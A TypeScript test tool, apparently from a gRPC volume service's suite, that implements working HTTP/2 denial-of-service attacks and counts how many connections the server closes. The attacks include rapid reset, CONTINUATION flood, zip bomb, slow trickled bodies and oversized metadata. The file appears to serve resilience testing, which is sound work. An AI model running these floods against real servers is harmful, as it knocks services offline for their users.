/**
 * A client that does not keep to the rules, in a process of its own: `node attacker.js ATTACK ADDRESS MS`. It repeats its attack
 * on new connections for as long as it is told, and prints how many connections it made and how many were closed on it.
 */
import { connect, type Socket } from 'node:net';
import { constants, setPriority } from 'node:os';
import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { CreateVolumeRequest } from '#src/gen/cinder/api/v3/volumes.js';

const DATA = 0;
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;

/** Another address than everybody else's. */
const ATTACKER = '127.0.0.66';
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const GET_VOLUME = '/cinder.api.v3.Volumes/GetVolume';
const WATCH = '/cinder.api.v3.Volumes/WatchVolumes';
const CREATE = '/cinder.api.v3.Volumes/CreateVolume';

/** One HTTP/2 frame. */
function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header field, never indexed, as HPACK spells it without Huffman. */
function field(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x10]), text(name), text(value)]);
}

function text(value: string): Buffer {
  const bytes = Buffer.from(value);
  if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
  const length = [127];
  let rest = bytes.length - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) length.push((rest % 128) + 128);
  return Buffer.concat([Buffer.from([...length, rest]), bytes]);
}

function request(path: string, more: Readonly<Record<string, string>> = {}): Buffer {
  const fields = {
    ...{ ':method': 'POST', ':scheme': 'http', ':path': path, ':authority': 'attacked' },
    ...{ 'content-type': 'application/grpc', te: 'trailers', 'x-project-id': 'attacker' },
    ...more,
  };
  return Buffer.concat(Object.entries(fields).map(([name, value]) => field(name, value)));
}

/** A gRPC message as DATA frames of 16 KiB, the last of which ends the stream. */
function message(stream: number, bytes: Buffer, isCompressed = false): Buffer {
  const head = Buffer.from([isCompressed ? 1 : 0, 0, 0, 0, 0]);
  head.writeUInt32BE(bytes.length, 1);
  const whole = Buffer.concat([head, bytes]);
  const frames: Buffer[] = [];
  for (let at = 0; at < whole.length; at += 16_384) {
    const isLast = at + 16_384 >= whole.length;
    frames.push(frame(DATA, isLast ? END_STREAM : 0, stream, whole.subarray(at, at + 16_384)));
  }
  return Buffer.concat(frames);
}

/** Ids of a client's streams. */
function* streams(): Generator<number> {
  for (let id = 1; id < 2 ** 31; id += 2) yield id;
}

/** Writes until the connection is closed or the time is over; waits where the other side does not read. */
async function flood(socket: Socket, until: number, next: () => Buffer): Promise<void> {
  while (Date.now() < until && !socket.destroyed && socket.writable) {
    if (socket.write(next())) await new Promise(setImmediate);
    else await Promise.race([goesOn(socket), delay(until - Date.now())]);
  }
}

function goesOn(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const end = (): void => {
      socket.off('drain', end).off('close', end);
      resolve();
    };
    socket.once('drain', end).once('close', end);
  });
}

/** `CreateVolumeRequest` with `size` 1. */
const ONE_GIB = Buffer.from(CreateVolumeRequest.encode(CreateVolumeRequest.create({ size: 1 })).finish());
const bomb = gzipSync(Buffer.alloc(64 * 1_048_576));
const many = (count: number, one: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => one(index)));

type Attack = (socket: Socket, until: number, ids: Generator<number>) => Promise<void>;

const next = (ids: Generator<number>): number => Number(ids.next().value);

const ATTACKS: Readonly<Record<string, Attack>> = {
  'rapid reset': (socket, until, ids) =>
    flood(socket, until, () =>
      many(50, () => {
        const id = next(ids);
        const headers = frame(HEADERS, END_HEADERS, id, request(GET_VOLUME));
        return Buffer.concat([headers, frame(RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8]))]);
      }),
    ),
  'CONTINUATION flood': async (socket, until, ids) => {
    socket.write(frame(HEADERS, 0, next(ids), request(GET_VOLUME)));
    const id = 1;
    await flood(socket, until, () =>
      many(50, (index) => frame(CONTINUATION, 0, id, field(`x-${index}`, 'a'.repeat(100)))),
    );
  },
  'SETTINGS flood': (socket, until) =>
    flood(socket, until, () => many(100, (index) => frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, index])))),
  'PING flood': (socket, until) => flood(socket, until, () => many(100, () => frame(PING, 0, 0, Buffer.alloc(8)))),
  'zip bomb': (socket, until, ids) =>
    flood(socket, until, () => {
      const id = next(ids);
      const headers = frame(HEADERS, END_HEADERS, id, request(CREATE, { 'grpc-encoding': 'gzip' }));
      return Buffer.concat([headers, message(id, bomb, true)]);
    }),
  'length prefix of a gigabyte': (socket, until, ids) =>
    flood(socket, until, () => {
      const id = next(ids);
      const prefix = frame(DATA, 0, id, Buffer.from([0, 0x40, 0, 0, 0]));
      return Buffer.concat([
        frame(HEADERS, END_HEADERS, id, request(CREATE)),
        prefix,
        frame(DATA, 0, id, Buffer.alloc(8_192)),
      ]);
    }),
  'trickled bodies': async (socket, until, ids) => {
    const open = Array.from({ length: 1_000 }, () => next(ids));
    for (const id of open) socket.write(frame(HEADERS, END_HEADERS, id, request(CREATE)));
    let byte = 0;
    while (Date.now() < until && !socket.destroyed) {
      // each stream says that 64 bytes are coming, and takes its time
      const one = Buffer.from([[0, 0, 0, 0, 64][byte++] ?? 1]);
      socket.write(Buffer.concat(open.map((id) => frame(DATA, 0, id, one))));
      await delay(200);
    }
  },
  'connections that say nothing': async (socket, until) => {
    const address = { host: socket.remoteAddress ?? '', port: socket.remotePort ?? 0, localAddress: ATTACKER };
    const idle = Array.from({ length: 1_500 }, () => connect(address).on('error', () => undefined));
    await delay(until - Date.now());
    for (const one of idle) one.destroy();
  },
  'watchers that never read': async (socket, until, ids) => {
    socket.pause();
    for (let count = 0; count < 100; count += 1) {
      const id = next(ids);
      socket.write(Buffer.concat([frame(HEADERS, END_HEADERS, id, request(WATCH)), message(id, Buffer.alloc(0))]));
    }
    // what they watch does change
    while (Date.now() < until) {
      const id = next(ids);
      socket.write(Buffer.concat([frame(HEADERS, END_HEADERS, id, request(CREATE)), message(id, ONE_GIB)]));
      await delay(100);
    }
  },
  'resets at random moments': (socket, until, ids) =>
    flood(socket, until, () =>
      many(5, () => {
        const id = next(ids);
        const parts = [
          frame(HEADERS, END_HEADERS, id, request(Math.random() < 0.3 ? WATCH : GET_VOLUME)),
          message(id, Buffer.alloc(0)),
        ];
        const sent = parts.slice(0, 1 + Math.floor(Math.random() * 2));
        const reset = frame(RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8]));
        setTimeout(() => socket.writable && socket.write(reset), Math.random() * 20);
        return Buffer.concat(sent);
      }),
    ),
  'oversized metadata': (socket, until, ids) =>
    flood(socket, until, () => {
      const more = Object.fromEntries(Array.from({ length: 60 }, (_, index) => [`x-${index}`, 'a'.repeat(1_000)]));
      const block = request(GET_VOLUME, more);
      const id = next(ids);
      const rest: Buffer[] = [];
      for (let at = 16_000; at < block.length; at += 16_000) {
        rest.push(
          frame(CONTINUATION, at + 16_000 >= block.length ? END_HEADERS : 0, id, block.subarray(at, at + 16_000)),
        );
      }
      return Buffer.concat([frame(HEADERS, END_STREAM, id, block.subarray(0, 16_000)), ...rest]);
    }),
};

async function main([name = '', address = '', ms = '']: readonly string[]): Promise<void> {
  const attack = ATTACKS[name];
  if (!attack) throw new Error(`no attack: ${name}`);
  // it has a machine of its own, elsewhere: its work is not to be taken for the server's
  setPriority(constants.priority.PRIORITY_LOW);
  const until = Date.now() + Number(ms);
  const [host = '', port = ''] = address.split(':');
  process.stdout.write('attacking\n');
  let connections = 0;
  let closed = 0;
  while (Date.now() < until) {
    const socket = connect({ host, port: Number(port), localAddress: ATTACKER });
    socket.on('error', () => undefined).on('close', () => (closed += 1));
    socket.resume();
    await new Promise<void>((resolve) => socket.once('connect', resolve).once('close', resolve));
    connections += 1;
    socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]));
    await attack(socket, until, streams());
    socket.destroy();
  }
  process.stdout.write(`${JSON.stringify({ connections, closed })}\n`);
}

await main(process.argv.slice(2));
